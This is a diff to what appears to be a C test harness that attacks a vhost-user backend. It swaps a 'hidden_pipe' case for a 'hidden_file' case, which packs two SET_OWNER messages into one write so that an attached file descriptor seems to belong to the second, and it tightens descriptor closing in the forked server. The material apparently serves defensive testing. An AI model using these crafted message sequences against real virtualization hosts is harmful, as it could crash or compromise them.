@@ -120,7 +120,9 @@ static int silent_file(void)
 		err(1, "fork");
 	case 0:
 		prctl(PR_SET_PDEATHSIG, SIGKILL);
-		close(vhost);
+		/* It keeps nothing that is the attacker's: not the last end of a pipe. */
+		close_range(3, fuse - 1, 0);
+		close_range(fuse + 1, ~0U, 0);
 		serve(fuse);
 	}
 	close(fuse);
@@ -170,7 +172,7 @@ static void say_word(uint32_t request, uint64_t word, int fd)
 }
 
 enum { SET_FEATURES = 2, SET_OWNER = 3, SET_MEM_TABLE = 5, SET_LOG_BASE = 6, NUM = 8, ADDR = 9, BASE = 10, KICK = 12,
-       CALL = 13, ERR = 14, SET_PROTOCOL_FEATURES = 16, ENABLE = 18, SET_MTU = 20, SET_INFLIGHT_FD = 32 };
+       CALL = 13, ERR = 14, SET_PROTOCOL_FEATURES = 16, ENABLE = 18, SET_INFLIGHT_FD = 32 };
 
 static void say_memory(int file)
 {
@@ -385,15 +387,11 @@ static void attack(const char *what)
 		say_word(ERR, 0, ends[1]);
 		say_word(KICK, 0, ends[1]);
 		close(ends[1]);
-	} else if (!strcmp(what, "hidden_pipe")) {
-		/* Where no descriptor is looked for the kernel closes it, on the thread that reads. */
-		uint32_t head[3] = { SET_MTU, 1, 8 };
-		uint64_t mtu = 1500;
-		held_pipe(ends);
-		introduce();
-		say_parts(&(struct iovec){ head, sizeof head }, 1, -1);
-		say_parts(&(struct iovec){ &mtu, sizeof mtu }, 1, ends[1]);
-		close(ends[1]);
+	} else if (!strcmp(what, "hidden_file")) {
+		/* Two messages that take no descriptor in one write: it comes with the first, and seems to be the second's. */
+		uint32_t twice[6] = { SET_OWNER, 1, 0, SET_OWNER, 1, 0 };
+		int file = silent_file();
+		say_parts(&(struct iovec){ twice, sizeof twice }, 1, file);
 		usleep(200000);
 	} else {
 		errx(1, "no attack is called %s", what);
